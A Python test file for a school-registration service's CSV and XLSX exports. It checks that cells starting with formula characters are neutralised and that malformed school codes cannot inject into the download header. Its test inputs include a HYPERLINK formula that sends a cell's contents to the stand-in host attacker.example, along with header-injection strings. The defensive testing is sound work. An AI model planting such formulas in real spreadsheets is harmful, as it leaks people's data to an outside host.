"""A secondary school's exports are opened in a spreadsheet: no cell may become a formula (OWASP's CSV
injection). A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single quote
before it, in the CSV (where the field is also quoted) and in the XLSX (where every cell is a string
cell). The school's path is a BRIN, checked before it reaches the file's name in a header."""

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from loket.aanmelding.adapters.exports import as_csv, as_xlsx

SERVICE = "aanmelding"
LYCEUM = "94AB00"
TO_LYCEUM = ["94AB00-hv", "94AA00-havo", "94AC00-havo"]
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
RISKY = tuple(PREFIXES)
KINDS = ["registrations", "lottery", "withdrawals"]


def neutral(text: str) -> str:
    """What the export should show of a text the school or the parent wrote."""
    return "'" + text if text.startswith(RISKY) else text


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def xlsx_cells(content: bytes) -> list[list[Any]]:
    """Every cell's value, after checking that none is a formula (nor an error value)."""
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type not in ("f", "e"), (cell.coordinate, cell.data_type, cell.value)
            assert cell.value is None or isinstance(cell.value, str), (cell.coordinate, cell.value)
    return [[cell.value or "" for cell in row] for row in sheet.iter_rows()]


def as_dicts(cells: list[list[Any]]) -> list[dict[str, Any]]:
    header, *rows = cells
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("prefix", PREFIXES, ids=["equals", "plus", "minus", "at", "tab", "cr"])
async def test_no_free_text_becomes_a_formula_in_any_export(aanmelding, prefix):  # type: ignore[no-untyped-def]
    """Each free text that reaches an export, beginning with the prefix: the pupil's ELK number (from
    dossier), the twin's ELK number the parent typed, the stream the school placed the pupil in, and the
    reasons the school gave when it withdrew a registration or could not place the pupil. aanmelding
    trims the school's texts, so a tab or CR before them is gone; the parent's and dossier's are kept."""
    formula = 'HYPERLINK("http://attacker.example/?"&A1;"klik")'
    elk, twin = f"{prefix}1+2;A1", f"{prefix}SUM(A1:A9)"
    stream, withdrawn_because, refused_because = (f"{prefix}{formula}", f"{prefix}-2+3", f"{prefix}@SUM(1;2)")
    placed = await aanmelding.pupil_with_advice("havo", elk_number=elk)
    multiple_birth = {"is_multiple": True, "sibling_elk_number": twin, "registering_together": False}
    registered = await aanmelding.register(placed, TO_LYCEUM, multiple_birth=multiple_birth)
    assert registered.status_code == 200, registered.text
    lyceum = aanmelding.teacher(LYCEUM)
    placement = await aanmelding.call(
        "POST", f"/registrations/{registered.json()['id']}/placement", lyceum, json={"stream": stream}
    )
    assert placement.status_code == 200, placement.text
    ended = {}
    for path, reason in (("school-withdrawal", withdrawn_because), ("support-refusal", refused_because)):
        registration = (await aanmelding.register(await aanmelding.pupil_with_advice("havo"), TO_LYCEUM)).json()
        answer = await aanmelding.call(
            "POST", f"/registrations/{registration['id']}/{path}", lyceum, json={"reason": reason}
        )
        assert answer.status_code == 200, answer.text
        ended[registration["id"]] = reason.strip()
    await aanmelding.register(await aanmelding.pupil_with_advice("havo", elk_number="10001"), TO_LYCEUM)

    for kind in KINDS:
        answer = await aanmelding.call("GET", f"/schools/{LYCEUM}/exports/{kind}.csv", lyceum)
        table = csv_cells(answer.content)
        sheet = xlsx_cells((await aanmelding.call("GET", f"/schools/{LYCEUM}/exports/{kind}.xlsx", lyceum)).content)
        # the same cells in both formats (XML reads a carriage return as a line feed)
        assert len(table) > 1 and sheet == [[cell.replace("\r", "\n") for cell in row] for row in table]
        assert not [cell for row in table + sheet for cell in row if cell.startswith((*RISKY, "\n"))]
        rows = as_dicts(table)
        if kind == "registrations":
            [row] = [row for row in rows if row["pupil"] == str(placed)]
            assert (row["elk_number"], row["twin_elk_number"]) == (neutral(elk), neutral(twin))
            assert row["stream"] == neutral(stream.strip())
        if kind == "withdrawals":
            assert {row["registration"]: row["reason"] for row in rows} == {
                registration: neutral(reason) for registration, reason in ended.items()
            }
        # in the CSV every field is quoted, so a `;` or a quote in a text stays in its cell
        text = answer.content.decode("utf-8-sig")
        for row in table:
            for cell in row:
                assert '"' + cell.replace('"', '""') + '"' in text


def test_every_cell_the_export_writes_is_neutralised_whatever_its_column():
    """The writers themselves, for the columns the API cannot fill with a formula (the region's school and
    program names, dossier's BRINs): each prefix in each column; a text that looks like an error value
    stays text too."""
    row = {f"column_{index}": f"{prefix}1+1" for index, prefix in enumerate(PREFIXES)} | {"error": "#N/A"}
    expected = [list(row), [f"'{prefix}1+1" for prefix in PREFIXES] + ["#N/A"]]

    assert csv_cells(as_csv([row])) == expected
    assert xlsx_cells(as_xlsx([row], "registrations")) == [
        [cell.replace("\r", "\n") for cell in row] for row in expected
    ]


async def test_a_brin_that_is_not_one_is_refused_before_it_reaches_the_file_name(aanmelding):  # type: ignore[no-untyped-def]
    """A `"` would add parameters to the download's Content-Disposition header, a character outside
    latin-1 would make the answer fail (a 500): both are a 422 on the path, whoever asks."""
    for brin in ('94AB0"1', "94AB0€", "94AB00; filename=x.csv", "94ab00"):
        for caller in (aanmelding.token("region_admin"), aanmelding.teacher(brin)):
            answer = await aanmelding.call("GET", f"/schools/{brin}/exports/registrations.csv", caller)
            assert answer.status_code == 422, (brin, answer.status_code)
            [problem] = answer.json()["detail"]
            assert problem["loc"] == ["path", "brin"] and problem["type"] == "string_pattern_mismatch"
            assert "content-disposition" not in answer.headers


async def test_the_export_names_its_file_as_rfc_6266_says(aanmelding):  # type: ignore[no-untyped-def]
    answer = await aanmelding.call(
        "GET", f"/schools/{LYCEUM}/exports/withdrawals.xlsx", aanmelding.token("region_admin")
    )

    assert answer.status_code == 200
    assert answer.headers["content-disposition"] == (
        "attachment; filename=\"withdrawals-94AB00.xlsx\"; filename*=UTF-8''withdrawals-94AB00.xlsx"
    )
